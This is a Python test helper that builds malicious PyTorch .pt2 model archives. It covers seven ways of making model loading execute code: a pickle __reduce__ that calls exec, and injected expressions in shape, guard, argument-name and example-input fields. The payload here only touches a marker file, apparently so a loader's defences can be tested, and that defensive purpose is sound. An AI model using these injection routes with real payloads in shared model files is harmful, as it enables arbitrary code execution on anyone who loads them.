"""Model files that attack the server: programs that run code when they are loaded."""

from __future__ import annotations

import io
import json
import pickle
import re
import zipfile
from collections.abc import Callable, Mapping
from pathlib import Path
from typing import Any

import torch

from support.models.net import Net

Members = dict[str, bytes]


class Touch:
    """Creates a file when it is unpickled."""

    def __init__(self, mark: Path) -> None:
        self.mark = mark

    def __reduce__(self) -> tuple[Any, ...]:
        return exec, (f"open({str(self.mark)!r}, 'w').close()",)


def touch(mark: Path) -> str:
    """An expression that creates a file."""
    return f"__import__('pathlib').Path('{mark}').touch()"


def write_program(path: Path) -> Path:
    """A torch.export program of a tiny network, with any batch size."""
    batch = torch.export.Dim("batch", min=2, max=64)
    torch.export.save(torch.export.export(Net().eval(), (torch.zeros(2, 4),), dynamic_shapes=({0: batch},)), path)
    return path


def members_of(path: Path | io.BytesIO) -> Members:
    """The members of a program by name, without its top folder."""
    with zipfile.ZipFile(path) as archive:
        return {name.partition("/")[2]: archive.read(name) for name in archive.namelist()}


def write_members(path: Path, members: Mapping[str, bytes]) -> Path:
    with zipfile.ZipFile(path, "w") as archive:
        for name, content in members.items():
            archive.writestr(f"{path.stem}/{name}", content)
    return path


def saved(value: Any) -> bytes:
    file = io.BytesIO()
    torch.save(value, file)
    return file.getvalue()


def in_example(members: Members, mark: Path) -> None:
    members["data/sample_inputs/model.pt"] = saved(((Touch(mark),), {}))


def in_weights(members: Members, mark: Path) -> None:
    config = json.loads(members["data/weights/model_weights_config.json"])
    next(iter(config["config"].values())).update(use_pickle=True, path_name="other")
    members["data/weights/model_weights_config.json"] = json.dumps(config).encode()
    members["data/weights/other"] = saved(Touch(mark))


def in_constant(members: Members, mark: Path) -> None:
    weights = json.loads(members["data/weights/model_weights_config.json"])["config"]
    constant = {**next(iter(weights.values())), "use_pickle": True, "path_name": "opaque_obj_0"}
    members["data/constants/model_constants_config.json"] = json.dumps({"config": {"c": constant}}).encode()
    members["data/constants/opaque_obj_0"] = pickle.dumps(Touch(mark))


def in_shape(members: Members, mark: Path) -> None:
    expression = json.dumps(touch(mark)).encode()
    members["models/model.json"] = re.sub(
        rb'"expr_str": ?"[^"]*"', lambda _: b'"expr_str": ' + expression, members["models/model.json"]
    )


def in_guard(members: Members, mark: Path) -> None:
    document = json.loads(members["models/model.json"])
    document["guards_code"] = [f"{touch(mark)} is None"]
    members["models/model.json"] = json.dumps(document).encode()


def in_name(members: Members, mark: Path) -> None:
    text = members["models/model.json"].decode()
    members["models/model.json"] = text.replace('"x"', json.dumps(f"x={touch(mark)}")).encode()


class Mode(torch.nn.Module):
    def forward(self, x: torch.Tensor, mode: str) -> torch.Tensor:
        return x + 1


def in_example_text(members: Members, mark: Path) -> None:
    """torch compares a text of the example inputs with the given one, in source that it writes."""
    file = io.BytesIO()
    torch.export.save(torch.export.export(Mode(), (torch.zeros(2, 4), f"'+str({touch(mark)})+'")), file)
    members.clear()
    members.update(members_of(file))


# Ways to run code in a .pt2: the function changes its members so that loading creates the file `mark`.
HOSTILE_PROGRAMS: Mapping[str, Callable[[Members, Path], None]] = {
    "example": in_example,
    "weights": in_weights,
    "constant": in_constant,
    "shape": in_shape,
    "guard": in_guard,
    "name": in_name,
    "example_text": in_example_text,
}


def write_hostile_program(path: Path, program: Path, way: str, mark: Path) -> Path:
    """A copy of a program that creates the file `mark` when it is loaded carelessly."""
    members = members_of(program)
    HOSTILE_PROGRAMS[way](members, mark)
    return write_members(path, members)
